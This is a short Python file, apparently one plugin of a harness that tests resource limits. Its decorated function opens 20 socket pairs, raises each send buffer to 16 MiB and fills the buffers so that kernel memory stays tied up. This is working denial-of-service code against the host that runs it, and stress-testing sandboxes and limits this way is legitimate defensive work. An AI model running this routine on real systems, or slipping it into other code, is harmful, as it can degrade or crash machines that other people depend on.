"""Takes the kernel's memory in pairs of sockets with buffers as large as they can be (here: 20)."""

import socket

from attack import attack, kept


@attack
def _():
    for _ in range(20):
        pair = socket.socketpair()
        kept.extend(pair)
        for end in pair:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            end.setblocking(False)
            try:
                while end.send(bytes(1 << 16)):
                    pass
            except BlockingIOError:
                continue
